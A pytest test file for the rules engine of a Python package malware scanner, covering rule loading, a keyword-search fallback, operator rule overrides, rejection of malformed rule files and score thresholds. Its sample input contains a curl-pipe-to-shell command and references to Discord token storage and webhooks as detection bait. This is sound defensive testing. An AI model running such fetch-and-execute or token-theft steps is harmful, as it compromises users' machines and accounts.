"""The rules file: shipped rules load, operators' files extend or replace, bad files are refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from bastion.config import Settings
from bastion.protect.scan import config_from
from bastion.protect.scan.engine import Config, scan_bytes
from bastion.protect.scan.keywords import KeywordIndex
from bastion.protect.scan.rules import RulesError, load_rules
from tests.protect.scan.builders import wheel

pytestmark = pytest.mark.one_backend

SAMPLE = "import os\nos.system('curl http://x | sh')  # discord Local Storage leveldb\nWEBHOOKS\n"


def test_every_shipped_rule_is_documented_and_loads() -> None:
    rules = load_rules()
    every = [
        *rules.patterns,
        *rules.combinations,
        *(r for rs in rules.by_capability.values() for r in rs),
    ]
    assert len({r.id for r in every}) == len(every) > 40
    assert all(r.description for r in every)


def test_keyword_index_fallback_finds_what_yara_finds() -> None:
    rules = load_rules()
    index = rules.keyword_index
    fallback = KeywordIndex(index.keywords)
    fallback.compiled = None  # the pure-Python search
    data = SAMPLE.encode()
    lowered = data.lower().decode("latin-1")
    assert set(index.offsets(data, lowered)) == set(fallback.offsets(data, lowered)) != set()


def test_operator_rules_extend_and_replace(tmp_path: Path) -> None:
    extra = tmp_path / "site-rules.toml"
    extra.write_text(
        """
[capabilities]
network = ["internal_http.fetch"]

[[rule]]
id = "internal-marker"
description = "Our red-team marker string."
pattern = 'RED-TEAM-MARKER-[0-9]+'
keywords = ["red-team-marker-"]
severity = "high"

[[rule]]
id = "import-network"
description = "Stricter here: any network access on import."
capability = "network"
context = ["import"]
severity = "high"
""",
        encoding="utf-8",
    )
    config = config_from(Settings(scan_rules_files=[extra]))
    data = wheel(
        "demo",
        "1.0",
        {
            "demo/__init__.py": (
                "import internal_http\ninternal_http.fetch('x')\nM = 'RED-TEAM-MARKER-7'\n"
            )
        },
    )
    report = scan_bytes(data, "demo-1.0-py3-none-any.whl", config)
    severities = {f.rule: f.severity for f in report.findings}
    assert severities["internal-marker"] == "high"
    assert severities["import-network"] == "high"
    assert report.verdict == "suspicious"
    plain = scan_bytes(data, "demo-1.0-py3-none-any.whl", Config(rules=load_rules()))
    assert plain.verdict == "clean"


def test_bad_rules_files_are_refused(tmp_path: Path) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text('[[rule]]\nid = "x"\ndescription = "x"\npattern = "("\nseverity = "high"\n')
    with pytest.raises(RulesError, match="bad regular expression"):
        load_rules((bad,))
    bad.write_text(
        '[[rule]]\nid = "y"\ndescription = "y"\ncapability = "network"\nseverity = "severe"\n'
    )
    with pytest.raises(RulesError, match="severity must be one of"):
        load_rules((bad,))
    with pytest.raises(RulesError, match="cannot read"):
        load_rules((tmp_path / "missing.toml",))


def test_thresholds_come_from_settings() -> None:
    data = wheel(
        "demo",
        "1.0",
        {
            "demo/__init__.py": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')\n"
        },
    )
    strict = config_from(Settings(scan_suspicious_score=3))
    assert scan_bytes(data, "demo-1.0-py3-none-any.whl", strict).verdict == "suspicious"
    assert (
        scan_bytes(data, "demo-1.0-py3-none-any.whl", Config(rules=load_rules())).verdict == "clean"
    )
